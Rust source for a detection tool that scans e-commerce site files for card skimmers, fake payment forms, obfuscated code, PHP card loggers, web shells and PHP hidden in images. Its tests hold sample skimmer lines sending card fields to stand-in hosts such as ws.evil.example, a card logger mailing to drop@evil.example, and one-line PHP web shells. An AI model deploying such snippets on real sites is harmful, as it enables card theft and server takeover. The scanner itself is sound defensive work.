//! Built-in skimmer and web-shell signatures, written for anshin from what
//! real skimmers do (research notes §1.2), not taken from any rule set.
//!
//! Each rule looks at one kind of file and reports the line that gives it
//! away; no finding ever carries the matched text (a card logger's file may
//! hold card data), only the rule, the line, why it matters in English and
//! Japanese, and for exfiltration the destination host. Files whose SHA-256
//! is on the rules' allow-list are skipped.

use std::borrow::Cow;
use std::path::Path;
use std::sync::LazyLock;

use regex::bytes::Regex;
use serde::Serialize;
use sha2::Digest as _;

use crate::Severity;
use crate::rules::Rules;

/// Largest file the signatures read; larger ones are reported as not scanned.
pub const MAX_SCAN_BYTES: u64 = 32 << 20;

/// One rule that matched.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    /// The rule's stable id (`yara.<file>.<rule>` for a user's YARA rule).
    pub rule: Cow<'static, str>,
    /// 1-based line of the giveaway (0 for a YARA rule that matched by its
    /// condition alone, without a pattern).
    pub line: u64,
    /// Byte offset of the giveaway, for YARA rules (their matches are bytes).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub offset: Option<u64>,
    /// How much it matters.
    pub severity: Severity,
    /// Why it matters, in English.
    pub why_en: Cow<'static, str>,
    /// Why it matters, in Japanese.
    pub why_ja: Cow<'static, str>,
    /// A host the data or form goes to, when the rule is about one.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub destination: Option<String>,
}

/// A built-in rule's description.
#[derive(Debug, Clone, Copy)]
pub struct RuleInfo {
    /// Stable id.
    pub id: &'static str,
    /// Severity of its findings.
    pub severity: Severity,
    /// Why it matters, in English.
    pub why_en: &'static str,
    /// Why it matters, in Japanese.
    pub why_ja: &'static str,
}

/// Every built-in rule.
pub const RULES: &[RuleInfo] = &[
    RuleInfo {
        id: "skimmer.card-exfiltration",
        severity: Severity::Critical,
        why_en: "card fields are read and sent to another origin (XHR, fetch, image beacon, WebSocket or sendBeacon): this is how web skimmers copy cards while the real payment still succeeds",
        why_ja: "カード入力欄の値を読み取り、外部のオリジンへ送信しています（XHR・fetch・画像ビーコン・WebSocket・sendBeacon）。正規の決済を成功させたままカード情報を盗むウェブスキマーの手口です",
    },
    RuleInfo {
        id: "skimmer.fake-payment-form",
        severity: Severity::Critical,
        why_en: "a form with card fields posts to another host: a fake payment form takes the card, shows an error and sends the shopper on to the real one",
        why_ja: "カード入力欄を持つフォームの送信先が外部ホストです。偽の決済フォームでカード情報を入力させ、エラー表示後に本物の決済画面へ誘導する手口です",
    },
    RuleInfo {
        id: "skimmer.card-input-unexpected",
        severity: Severity::High,
        why_en: "card-number or security-code inputs in a file that is not the shop's payment page; if it is the real payment template, list it in [signatures] card_inputs_allowed",
        why_ja: "決済ページではないファイルにカード番号またはセキュリティコードの入力欄があります。正規の決済テンプレートであればルールの [signatures] card_inputs_allowed に登録してください",
    },
    RuleInfo {
        id: "obfuscation.eval-decoded",
        severity: Severity::Critical,
        why_en: "code is decoded at run time and executed (eval or Function of atob, fromCharCode, unescape, base64_decode, gzinflate…): legitimate shop code has no reason to hide itself",
        why_ja: "実行時にデコードしたコードを実行しています（eval や Function と atob・fromCharCode・base64_decode・gzinflate 等の組み合わせ）。正規のショップのコードが自身を隠す理由はありません",
    },
    RuleInfo {
        id: "obfuscation.encoded-strings",
        severity: Severity::High,
        why_en: "long runs of hex escapes, fromCharCode number lists, obfuscator-style _0x names or nested atob: skimmers hide their destination and field names this way",
        why_ja: "長い16進エスケープ列、fromCharCode の数値列、_0x 形式の識別子や多重の atob があります。スキマーは送信先や入力欄名をこのように隠します",
    },
    RuleInfo {
        id: "php.request-exfiltration",
        severity: Severity::Critical,
        why_en: "PHP writes request parameters ($_POST, $_REQUEST, $_GET, php://input) to a file, mails them or sends them elsewhere: a card logger on the server",
        why_ja: "PHP がリクエストの値（$_POST・$_REQUEST・$_GET・php://input）をファイルへ書き込むか、メールや外部へ送信しています。サーバー側のカード情報記録（カードロガー）の手口です",
    },
    RuleInfo {
        id: "php.webshell",
        severity: Severity::Critical,
        why_en: "request input reaches code execution (eval, assert, system, shell_exec, passthru, a variable function, preg_replace /e): a web shell gives an attacker the server",
        why_ja: "リクエストの入力がコード実行（eval・assert・system・shell_exec・passthru・可変関数・preg_replace の /e 修飾子）に渡っています。攻撃者にサーバーを操作させるウェブシェルです",
    },
    RuleInfo {
        id: "image.embedded-php",
        severity: Severity::Critical,
        why_en: "an image file holds PHP code: an include of it, or a server that runs it, executes attacker code that no image viewer shows",
        why_ja: "画像ファイルに PHP コードが含まれています。include されたりサーバーが実行したりすると、画像としては見えない攻撃コードが動きます",
    },
];

fn info(id: &str) -> &'static RuleInfo {
    RULES.iter().find(|r| r.id == id).expect("a built-in rule id")
}

fn finding(id: &str, line: u64, destination: Option<String>) -> Finding {
    let rule = info(id);
    Finding {
        rule: Cow::Borrowed(rule.id),
        line,
        offset: None,
        severity: rule.severity,
        why_en: Cow::Borrowed(rule.why_en),
        why_ja: Cow::Borrowed(rule.why_ja),
        destination,
    }
}

fn re(pattern: &str) -> Regex {
    Regex::new(pattern).expect("a valid built-in pattern")
}

static CARD_FIELD: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)cc[_-]?(?:number|num|no|cid|cvv|cvc|exp|owner)|card[_-]?(?:number|num|no|holder|cvc|cvv|code|expir)|cardnumber|credit[_-]?card|security[_-]?code|\bcvv2?\b|\bcvc2?\b|\bcid\b|autocomplete\s*=\s*["']cc-|payment\[cc|カード番号|セキュリティコード"#,
    )
});
static CARD_INPUT: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?is)<input\b[^>]{0,400}?(?:(?:name|id)\s*=\s*["']?[^"'>\s]*(?:cc[_-]?(?:number|num|no|cid|cvv|cvc)|card[_-]?(?:number|num|no|cvc|cvv|code)|cardnumber|security[_-]?code|cvv|cvc)|autocomplete\s*=\s*["']?cc-(?:number|csc))"#,
    )
});
static SINK: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"XMLHttpRequest|\bfetch\s*\(|new\s+Image\s*\(|\.src\s*=|new\s+WebSocket\s*\(|sendBeacon\s*\(|\$\.(?:ajax|post|get|getJSON)\s*\(|jQuery\.(?:ajax|post|get)\s*\(|\.open\s*\(\s*["'](?:POST|GET)"#,
    )
});
static URL: LazyLock<Regex> =
    LazyLock::new(|| re(r#"(?i)(?:https?|wss?):(?:\\?/){2}([a-z0-9-]+(?:\.[a-z0-9-]+)+)"#));
static FORM_ACTION: LazyLock<Regex> = LazyLock::new(|| {
    re(r#"(?is)<form\b[^>]{0,400}?\baction\s*=\s*["']?(?:https?:)?//([a-z0-9-]+(?:\.[a-z0-9-]+)+)"#)
});
static EVAL_JS: LazyLock<Regex> = LazyLock::new(|| {
    re(r#"\beval\s*\(|\bFunction\s*\(|\bsetTimeout\s*\(\s*(?:atob|unescape|String\.fromCharCode)"#)
});
static DECODER_JS: LazyLock<Regex> = LazyLock::new(|| {
    re(r#"\batob\s*\(|\bunescape\s*\(|fromCharCode|decodeURIComponent\s*\(|(?:\\x[0-9a-fA-F]{2}){4}"#)
});
static EVAL_PHP: LazyLock<Regex> = LazyLock::new(|| re(r#"(?i)\b(?:eval|assert|create_function)\s*\("#));
static DECODER_PHP: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)\b(?:base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|hex2bin|convert_uudecode|urldecode|rawurldecode)\s*\("#,
    )
});
static ENCODED: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?:\\x[0-9a-fA-F]{2}){16}|fromCharCode\s*\(\s*\d+\s*(?:,\s*\d+\s*){7}|\batob\s*\(\s*atob\s*\(|(?i:gzinflate\s*\(\s*base64_decode\s*\()"#,
    )
});
static OBFUSCATOR_NAME: LazyLock<Regex> = LazyLock::new(|| re(r#"\b_0x[0-9a-f]{4,6}\b"#));
static REQUEST_PHP: LazyLock<Regex> =
    LazyLock::new(|| re(r#"\$_(?:POST|REQUEST|GET|COOKIE)\b|php://input|\$HTTP_(?:POST|GET)_VARS"#));
static WHOLE_REQUEST: LazyLock<Regex> =
    LazyLock::new(|| re(r#"\$_(?:POST|REQUEST|GET)\b\s*[^\[\s]|php://input"#));
static OUTPUT_PHP: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)\b(?:file_put_contents|fwrite|fputs|error_log|mail|mb_send_mail|wp_mail|curl_exec|curl_init|fsockopen|stream_socket_client)\s*\(|file_get_contents\s*\(\s*["']https?://"#,
    )
});
static WEBSHELL: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)\b(?:eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|create_function|call_user_func(?:_array)?)\s*\([^;]{0,80}?\$_(?:POST|GET|REQUEST|COOKIE|FILES|SERVER\s*\[\s*["']HTTP_)|`[^`]{0,80}\$_(?:POST|GET|REQUEST|COOKIE)|\$_(?:POST|GET|REQUEST|COOKIE)\s*\[[^\]]{1,40}\]\s*\("#,
    )
});
static PREG_REPLACE: LazyLock<Regex> = LazyLock::new(|| re(r#"(?i)\bpreg_replace\s*\(\s*(["'])"#));
static PHP_OPEN: LazyLock<Regex> = LazyLock::new(|| re(r#"(?i)<\?php|<\?="#));

/// Which rules a file gets, from its name and first bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Kinds {
    script: bool,
    markup: bool,
    php: bool,
    image: bool,
}

fn kinds(path: &str, content: &[u8]) -> Kinds {
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    let ext = name.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    let image_magic = content.starts_with(b"GIF8")
        || content.starts_with(b"\x89PNG")
        || content.starts_with(b"\xff\xd8\xff")
        || content.starts_with(b"\x00\x00\x01\x00")
        || (content.starts_with(b"RIFF") && content.get(8..12) == Some(b"WEBP"));
    let image = matches!(ext, "jpg" | "jpeg" | "png" | "gif" | "ico" | "bmp" | "webp") || image_magic;
    let php_ext = matches!(
        ext,
        "php" | "php3" | "php4" | "php5" | "php7" | "php8" | "phtml" | "pht" | "phar" | "inc"
    );
    let head = &content[..content.len().min(4096)];
    let php = php_ext || (!image && PHP_OPEN.is_match(head));
    Kinds {
        script: matches!(ext, "js" | "mjs") || php_ext || matches!(ext, "html" | "htm" | "twig" | "tpl"),
        markup: matches!(ext, "html" | "htm" | "twig" | "tpl" | "phtml" | "php" | "inc") || ext == "js",
        php,
        image,
    }
}

/// Line (1-based) of a byte offset.
pub(crate) fn line_of(content: &[u8], offset: usize) -> u64 {
    memchr::memchr_iter(b'\n', &content[..offset.min(content.len())]).count() as u64 + 1
}

/// Whether the file is worth reading for signatures at all.
pub fn relevant(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    let ext = name.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    !matches!(
        ext,
        "css"
            | "map"
            | "md"
            | "txt"
            | "csv"
            | "lock"
            | "json"
            | "woff"
            | "woff2"
            | "ttf"
            | "eot"
            | "otf"
            | "mp4"
            | "webm"
            | "mp3"
            | "pdf"
            | "zip"
            | "gz"
            | "svgz"
            | "po"
            | "mo"
    )
}

/// The findings in one file's contents. `path` is the path below its root
/// (rules such as `card_inputs_allowed` match it).
pub fn scan_bytes(path: &str, content: &[u8], rules: &Rules) -> Vec<Finding> {
    let kinds = kinds(path, content);
    let mut out = Vec::new();
    if kinds.image {
        if let Some(m) = PHP_OPEN.find(content) {
            out.push(finding("image.embedded-php", line_of(content, m.start()), None));
        }
        return out;
    }
    if !(kinds.script || kinds.markup || kinds.php) {
        return out;
    }
    let card_fields = CARD_FIELD.is_match(content);
    if card_fields && (kinds.script || kinds.markup) {
        exfiltration(content, rules, &mut out);
    }
    if kinds.markup {
        forms(path, content, rules, card_fields, &mut out);
    }
    if kinds.script {
        obfuscation_js(content, &mut out);
    }
    if kinds.php {
        php(content, card_fields, &mut out);
    }
    // Decoded code being run says more than the encoding it came in.
    if out.iter().any(|f| f.rule == "obfuscation.eval-decoded") {
        out.retain(|f| f.rule != "obfuscation.encoded-strings");
    }
    out.sort_by(|a, b| (a.line, &a.rule).cmp(&(b.line, &b.rule)));
    out.dedup_by(|a, b| a.rule == b.rule && a.line == b.line);
    out
}

/// Hosts that appear in ordinary code without being a destination.
const NOT_DESTINATIONS: &[&str] = &[
    "www.w3.org",
    "w3.org",
    "schema.org",
    "json-schema.org",
    "github.com",
];

fn foreign_hosts<'a>(content: &'a [u8], rules: &'a Rules) -> impl Iterator<Item = (usize, String)> + 'a {
    URL.captures_iter(content).filter_map(move |cap| {
        let host = String::from_utf8_lossy(&cap[1]).to_ascii_lowercase();
        let start = cap.get(0).map_or(0, |m| m.start());
        (!NOT_DESTINATIONS.contains(&host.as_str()) && !rules.host_allowed(&host)).then_some((start, host))
    })
}

fn exfiltration(content: &[u8], rules: &Rules, out: &mut Vec<Finding>) {
    let Some(sink) = SINK.find(content) else { return };
    // The destination is an absolute URL to a host the rules do not allow,
    // or hidden (encoded strings next to the sink).
    let destination = foreign_hosts(content, rules).next().map(|(_, h)| h);
    let hidden = ENCODED.is_match(content) || DECODER_JS.is_match(content);
    if destination.is_some() || hidden {
        out.push(finding(
            "skimmer.card-exfiltration",
            line_of(content, sink.start()),
            destination,
        ));
    }
}

fn forms(path: &str, content: &[u8], rules: &Rules, card_fields: bool, out: &mut Vec<Finding>) {
    if card_fields {
        for cap in FORM_ACTION.captures_iter(content) {
            let host = String::from_utf8_lossy(&cap[1]).to_ascii_lowercase();
            if !rules.host_allowed(&host) {
                let at = cap.get(0).map_or(0, |m| m.start());
                out.push(finding(
                    "skimmer.fake-payment-form",
                    line_of(content, at),
                    Some(host),
                ));
            }
        }
    }
    if !rules.card_inputs_allowed(path)
        && let Some(m) = CARD_INPUT.find(content)
    {
        out.push(finding(
            "skimmer.card-input-unexpected",
            line_of(content, m.start()),
            None,
        ));
    }
}

/// An eval-like call with a decoder within 200 bytes after it: the first one.
fn eval_decoded(content: &[u8], eval: &Regex, decoder: &Regex, out: &mut Vec<Finding>) {
    let found = eval.find_iter(content).find(|m| {
        let window = &content[m.start()..content.len().min(m.end() + 200)];
        decoder.is_match(window)
    });
    if let Some(m) = found {
        out.push(finding(
            "obfuscation.eval-decoded",
            line_of(content, m.start()),
            None,
        ));
    }
}

fn obfuscation_js(content: &[u8], out: &mut Vec<Finding>) {
    eval_decoded(content, &EVAL_JS, &DECODER_JS, out);
    if let Some(m) = ENCODED.find(content) {
        out.push(finding(
            "obfuscation.encoded-strings",
            line_of(content, m.start()),
            None,
        ));
    } else if OBFUSCATOR_NAME.find_iter(content).take(20).count() == 20 {
        let at = OBFUSCATOR_NAME.find(content).map_or(0, |m| m.start());
        out.push(finding("obfuscation.encoded-strings", line_of(content, at), None));
    }
}

fn php(content: &[u8], card_fields: bool, out: &mut Vec<Finding>) {
    eval_decoded(content, &EVAL_PHP, &DECODER_PHP, out);
    if let Some(m) = WEBSHELL.find(content) {
        out.push(finding("php.webshell", line_of(content, m.start()), None));
    } else if let Some(line) = preg_replace_e(content) {
        out.push(finding("php.webshell", line, None));
    }
    // Request values near an output: a card logger when the whole request
    // goes out, or when the file is about card fields.
    let whole = WHOLE_REQUEST.is_match(content);
    if !(whole || card_fields) {
        return;
    }
    let reads: Vec<u64> = REQUEST_PHP
        .find_iter(content)
        .map(|m| line_of(content, m.start()))
        .collect();
    if reads.is_empty() {
        return;
    }
    for m in OUTPUT_PHP.find_iter(content) {
        let line = line_of(content, m.start());
        if reads.iter().any(|&r| r.abs_diff(line) <= 8) {
            out.push(finding("php.request-exfiltration", line, None));
            return;
        }
    }
}

/// `preg_replace` whose pattern (the first argument, a quoted literal) has
/// the `e` modifier, which evaluates the replacement as PHP (removed in PHP 7,
/// still in shells aimed at old hosts).
fn preg_replace_e(content: &[u8]) -> Option<u64> {
    for cap in PREG_REPLACE.captures_iter(content) {
        let quote = cap[1][0];
        let start = cap.get(0)?.end();
        let rest = &content[start..content.len().min(start + 500)];
        let Some(end) = memchr::memchr(quote, rest) else {
            continue;
        };
        let pattern = &rest[..end];
        let Some(&delimiter) = pattern.first() else {
            continue;
        };
        let closing = match delimiter {
            b'(' => b')',
            b'{' => b'}',
            b'[' => b']',
            b'<' => b'>',
            d => d,
        };
        let Some(close) = memchr::memrchr(closing, &pattern[1..]) else {
            continue;
        };
        let modifiers = &pattern[close + 2..];
        if modifiers.iter().all(u8::is_ascii_alphabetic) && modifiers.contains(&b'e') {
            return Some(line_of(content, cap.get(0)?.start()));
        }
    }
    None
}

/// Why a file was not scanned.
#[derive(Debug)]
pub enum SkipReason {
    /// Larger than [`MAX_SCAN_BYTES`].
    TooLarge,
    /// It could not be read.
    Unreadable(std::io::Error),
}

/// Reads and scans one file: its SHA-256 and findings, or `Ok(None)` when
/// the hash is allow-listed.
pub fn scan_file(
    fs_path: &Path,
    path: &str,
    rules: &Rules,
) -> Result<Option<(String, Vec<Finding>)>, SkipReason> {
    use std::io::Read as _;
    use std::os::unix::fs::OpenOptionsExt as _;
    let file = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(fs_path)
        .map_err(SkipReason::Unreadable)?;
    let meta = file.metadata().map_err(SkipReason::Unreadable)?;
    if !meta.is_file() {
        return Ok(Some((String::new(), Vec::new())));
    }
    if meta.len() > MAX_SCAN_BYTES {
        return Err(SkipReason::TooLarge);
    }
    let mut content = Vec::with_capacity(usize::try_from(meta.len()).unwrap_or(0));
    file.take(MAX_SCAN_BYTES + 1)
        .read_to_end(&mut content)
        .map_err(SkipReason::Unreadable)?;
    let sha = crate::hex(&sha2::Sha256::digest(&content));
    if rules.allow_listed(&sha) {
        return Ok(None);
    }
    let mut findings = scan_bytes(path, &content, rules);
    if let Some(yara) = rules.yara() {
        findings.extend(yara.scan(&content));
    }
    Ok(Some((sha, findings)))
}

/// A file with findings, from [`scan_tree`].
#[derive(Debug)]
pub struct TreeHit {
    /// Index of the path argument it was found under.
    pub root: usize,
    /// Path below it.
    pub path: String,
    /// SHA-256 of the file (for an allow-list entry once it is judged good).
    pub sha256: String,
    /// What matched.
    pub findings: Vec<Finding>,
}

/// What [`scan_tree`] found.
#[derive(Debug, Default)]
pub struct TreeReport {
    /// Files with findings, sorted.
    pub hits: Vec<TreeHit>,
    /// Files that could not be scanned, and why.
    pub unscanned: Vec<(String, SkipReason)>,
}

/// Runs the signatures over files and directories (walked in parallel,
/// symbolic links and special files never followed or opened).
pub fn scan_tree(paths: &[std::path::PathBuf], rules: &Rules, threads: usize) -> TreeReport {
    use ignore::{WalkBuilder, WalkState};
    let (tx, rx) = std::sync::mpsc::channel();
    for (index, root) in paths.iter().enumerate() {
        WalkBuilder::new(root)
            .standard_filters(false)
            .follow_links(false)
            .threads(threads.max(1))
            .build_parallel()
            .run(|| {
                let tx = tx.clone();
                Box::new(move |entry| {
                    let Ok(entry) = entry else {
                        return WalkState::Continue;
                    };
                    if !entry.file_type().is_some_and(|t| t.is_file()) {
                        return WalkState::Continue;
                    }
                    let rel = match entry.path().strip_prefix(root) {
                        Ok(rel) if !rel.as_os_str().is_empty() => crate::path_key(rel),
                        _ => crate::path_key(Path::new(entry.file_name())),
                    };
                    if !relevant(&rel) {
                        return WalkState::Continue;
                    }
                    let _ = tx.send((index, rel.clone(), scan_file(entry.path(), &rel, rules)));
                    WalkState::Continue
                })
            });
    }
    drop(tx);
    let mut report = TreeReport::default();
    for (root, path, result) in rx {
        match result {
            Ok(Some((sha256, findings))) if !findings.is_empty() => report.hits.push(TreeHit {
                root,
                path,
                sha256,
                findings,
            }),
            Ok(_) => {}
            Err(reason) => report.unscanned.push((path, reason)),
        }
    }
    report
        .hits
        .sort_by(|a, b| (a.root, &a.path).cmp(&(b.root, &b.path)));
    report
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(path: &str, content: &str) -> Vec<Cow<'static, str>> {
        let rules = Rules::parse("[signatures]\nallowed_hosts = [\"pay.example\"]\ncard_inputs_allowed = [\"app/template/default/Shopping/payment.twig\"]\n").expect("rules");
        scan_bytes(path, content.as_bytes(), &rules)
            .into_iter()
            .map(|f| f.rule)
            .collect()
    }

    #[test]
    fn card_fields_sent_elsewhere_by_every_channel() {
        for sink in [
            "var x = new XMLHttpRequest(); x.open('POST', 'https://jquery-cdn.example/c'); x.send(d);",
            "fetch('https://mage-cdn.example/p', {method: 'POST', body: d});",
            "new Image().src = 'https://shop-analytics.example/i.gif?d=' + btoa(d);",
            "var w = new WebSocket('wss://ws.evil.example/s'); w.send(d);",
            "navigator.sendBeacon('https://beacon.evil.example/b', d);",
        ] {
            let js = format!(
                "document.querySelector('#cc_number').addEventListener('blur', function () {{\n  var d = document.getElementById('cc_number').value + document.getElementById('cvv').value;\n  {sink}\n}});\n"
            );
            assert_eq!(
                ids("html/js/checkout.js", &js),
                vec!["skimmer.card-exfiltration"],
                "{sink}"
            );
        }
        // The same code sending to the allowed payment provider is fine.
        let ok = "var n = $('#card_number').val();\nfetch('https://api.pay.example/tokens', {body: n});\n";
        assert!(ids("html/js/checkout.js", ok).is_empty());
        // So is code that never reads card fields.
        assert!(ids("html/js/a.js", "fetch('https://api.other.example/x');").is_empty());
    }

    #[test]
    fn an_encoded_destination_still_counts() {
        let js = "var f = 'cc_number';\nvar u = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=');\nfetch(u, {body: document.getElementById(f).value});\n";
        let found = ids("html/js/x.js", js);
        assert!(
            found.iter().any(|r| r == "skimmer.card-exfiltration"),
            "{found:?}"
        );
    }

    #[test]
    fn fake_forms_and_card_inputs_in_the_wrong_template() {
        let twig = "{% block main %}\n<form method=\"post\" action=\"https://secure-payment.evil.example/pay\">\n<input type=\"text\" name=\"card_number\">\n<input name=\"security_code\">\n</form>\n{% endblock %}\n";
        assert_eq!(
            ids("app/template/default/Shopping/index.twig", twig),
            vec!["skimmer.fake-payment-form", "skimmer.card-input-unexpected"]
        );
        let real = "<form method=\"post\" action=\"{{ url('shopping_confirm') }}\">\n<input name=\"card_number\" autocomplete=\"cc-number\">\n</form>\n";
        assert!(ids("app/template/default/Shopping/payment.twig", real).is_empty());
        let to_provider = "<form action=\"https://pay.example/charge\"><input name=\"cc_number\"></form>";
        assert!(ids("app/template/default/Shopping/payment.twig", to_provider).is_empty());
    }

    #[test]
    fn obfuscation() {
        let hex = format!("var a = \"{}\";", "\\x68\\x74\\x74\\x70".repeat(5));
        assert_eq!(ids("html/js/a.js", &hex), vec!["obfuscation.encoded-strings"]);
        let chars = "var s = String.fromCharCode(104,116,116,112,115,58,47,47,101);";
        assert_eq!(ids("html/js/a.js", chars), vec!["obfuscation.encoded-strings"]);
        let eval = "eval(atob('YWxlcnQoMSk='));";
        assert_eq!(ids("html/js/a.js", eval), vec!["obfuscation.eval-decoded"]);
        let func = "var f = new Function(decodeURIComponent(escape(x)));";
        assert_eq!(ids("html/js/a.js", func), vec!["obfuscation.eval-decoded"]);
        let chain = "var c = atob(atob(p));";
        assert_eq!(ids("html/js/a.js", chain), vec!["obfuscation.encoded-strings"]);
        let names = (0..25)
            .map(|i| format!("var _0x{:04x} = {i};", 0xa1b2 + i))
            .collect::<Vec<_>>()
            .join("\n");
        assert_eq!(ids("html/js/a.js", &names), vec!["obfuscation.encoded-strings"]);
        let php = "<?php\n@eval(gzinflate(base64_decode('S0tMTs0tKMnMz1EoSc0rKQYA')));\n";
        assert_eq!(ids("app/x.php", php), vec!["obfuscation.eval-decoded"]);
    }

    #[test]
    fn php_card_loggers() {
        let logger =
            "<?php\n$d = json_encode($_POST);\nfile_put_contents('/tmp/.sess', $d . \"\\n\", FILE_APPEND);\n";
        assert_eq!(ids("html/upload/x.php", logger), vec!["php.request-exfiltration"]);
        let mailer = "<?php\n$n = $_POST['card_number'];\n$c = $_POST['security_code'];\nmail('drop@evil.example', 'cc', $n . ' ' . $c);\n";
        assert_eq!(
            ids("src/Eccube/Service/PurchaseFlow.php", mailer),
            vec!["php.request-exfiltration"]
        );
        // An ordinary controller reading one parameter and logging is not one.
        let normal = "<?php\n$page = (int) $_GET['page'];\nerror_log('listing page');\n";
        assert!(ids("html/index.php", normal).is_empty());
    }

    #[test]
    fn web_shells() {
        for shell in [
            "<?php @eval($_POST['x']); ?>",
            "<?php assert($_REQUEST['c']);",
            "<?php echo system($_GET['cmd']);",
            "<?php echo shell_exec($_POST['c']);",
            "<?php passthru($_REQUEST['c']);",
            "<?php $_GET['f']($_GET['a']);",
            "<?php echo `{$_GET['c']}`;",
            "<?php preg_replace('/.*/e', $_POST['c'], '');",
            "<?php preg_replace(\"#x#ie\", $x, $y);",
        ] {
            assert_eq!(ids("html/upload/s.php", shell), vec!["php.webshell"], "{shell}");
        }
        assert!(ids("src/a.php", "<?php preg_replace('/e+/i', 'x', $y);").is_empty());
        assert!(ids("src/a.php", "<?php $r = system_status();").is_empty());
    }

    #[test]
    fn php_in_images() {
        let mut gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00".to_vec();
        gif.extend_from_slice(b"\n<?php eval($_POST[1]); ?>");
        let rules = Rules::builtin();
        let found = scan_bytes("html/upload/save_image/a.gif", &gif, &rules);
        assert_eq!(found.len(), 1);
        assert_eq!((found[0].rule.as_ref(), found[0].line), ("image.embedded-php", 2));
        assert!(scan_bytes("html/upload/save_image/b.png", b"\x89PNG\r\n\x1a\n....", &rules).is_empty());
        // An image named .php is still an image with PHP in it.
        let found = scan_bytes("html/upload/x.php", &gif, &rules);
        assert_eq!(found[0].rule, "image.embedded-php");
    }

    #[test]
    fn findings_never_carry_the_matched_text() {
        let logger = "<?php\n$d = json_encode($_POST);\nfile_put_contents('/tmp/4111111111111111', $d, FILE_APPEND);\n";
        let found = scan_bytes("x.php", logger.as_bytes(), &Rules::builtin());
        let json = serde_json::to_string(&found).expect("json");
        assert!(!json.contains("4111") && !json.contains("tmp"));
    }
}
